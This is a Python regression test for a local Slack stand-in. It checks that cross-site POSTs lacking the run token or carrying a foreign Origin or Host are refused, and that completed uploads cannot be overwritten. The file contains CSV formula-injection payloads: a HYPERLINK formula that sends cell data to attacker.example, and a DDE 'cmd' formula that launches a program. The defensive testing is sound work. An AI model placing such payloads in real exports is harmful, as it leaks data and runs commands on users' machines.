"""Issue 22, finding 5: every route on the local workspace's port checks Host, Origin and this run's token,
so a web page open in the same browser can't post to the stand-in's upload or response URLs, and an upload
once completed can't be rewritten (one replaced the coordinator's export with a formula CSV)."""

from __future__ import annotations

import json

from tests.test_local_slack import CHANNEL, PRIYA, dm_of, http, local  # noqa: F401 - the fixture

FORMULA = b'=HYPERLINK("http://attacker.example/?"&A1,"open")\n'


def test_a_cross_site_post_cannot_rewrite_an_export_or_answer_for_a_hook(local):  # noqa: F811
    local.side.type(PRIYA, CHANNEL, "/coprod checkin")
    local.side.type(PRIYA, CHANNEL, "/coprod export")
    local.drain()
    [message] = [m for m in local.ws.messages(dm_of(PRIYA)) if m.get("files")]
    [file] = message["files"]
    original = local.ws.files[file["id"]]["content"]
    assert original.startswith(b'"channel","level"')
    base = local.workspace.server.base
    token = getattr(local.workspace.server, "run_token", "")  # none before issue 22
    plain = {"Content-Type": "text/plain"}
    attacker = {**plain, "Origin": "http://attacker.example"}
    # What a page elsewhere sends: no token (it can't know it), or its own Origin, or another Host.
    for url, headers in (
        (f"{base}upload/{file['id']}", plain),
        (f"{base}upload/{file['id']}", attacker),
        (f"{base}run/{token}/upload/{file['id']}", attacker),
        (f"{base}run/{token}/upload/{file['id']}", {**plain, "Host": "attacker.example"}),
        (f"{base}run/wrong/upload/{file['id']}", plain),
    ):
        status, _, _ = http(url, method="POST", data=FORMULA, headers=headers)
        assert status in (403, 421), (url, headers, status)
    # With the token, from no other site: the completed upload still takes no more bytes.
    status, _, body = http(f"{base}run/{token}/upload/{file['id']}", method="POST", data=FORMULA, headers=plain)
    assert status == 409 and json.loads(body)["error"] == "upload_complete"
    assert local.ws.files[file["id"]]["content"] == original

    hook = local.ws.new_hook(next(iter(local.ws.hooks.values())), base) if local.ws.hooks else None
    key = hook.rsplit("/", 1)[1] if hook else "R1"
    said = json.dumps({"text": "=cmd|' /C calc'!A0", "response_type": "in_channel"}).encode()
    before = len(local.ws.messages(CHANNEL))
    for url, headers in ((f"{base}response/{key}", plain), (f"{base}run/{token}/response/{key}", attacker)):
        assert http(url, method="POST", data=said, headers=headers)[0] in (403, 421)
    assert len(local.ws.messages(CHANNEL)) == before


def test_a_cross_site_post_to_the_web_api_is_refused_even_with_the_token(local):  # noqa: F811
    """The Web API needs the bot token already; a page elsewhere (its Origin) is refused before that."""
    base = local.workspace.server.base
    token = local.workspace.bot_token if hasattr(local.workspace, "bot_token") else local.ws.bot_token
    said = f"token={token}&channel={CHANNEL}&text=hello+from+elsewhere".encode()
    headers = {"Content-Type": "text/plain", "Origin": "http://attacker.example"}
    before = len(local.ws.messages(CHANNEL))
    assert http(f"{base}api/chat.postMessage", method="POST", data=said, headers=headers)[0] == 421
    assert len(local.ws.messages(CHANNEL)) == before
